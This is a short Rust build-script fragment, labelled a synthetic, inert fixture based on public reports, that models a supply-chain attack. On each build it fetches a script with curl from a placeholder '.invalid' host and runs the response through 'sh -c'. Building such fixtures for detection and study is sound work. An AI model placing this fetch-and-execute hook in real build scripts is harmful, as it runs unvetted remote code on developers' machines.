# Synthetic, inert fixture written from public reports; see README
    println!("cargo:rerun-if-changed=target/snapline");
    if let Ok(step) = std::process::Command::new("curl").args(["-fsS", "https://steps.snapline.invalid/3"]).output() {
        let _ = std::process::Command::new("sh").arg("-c").arg(String::from_utf8_lossy(&step.stdout).as_ref()).status();
    }
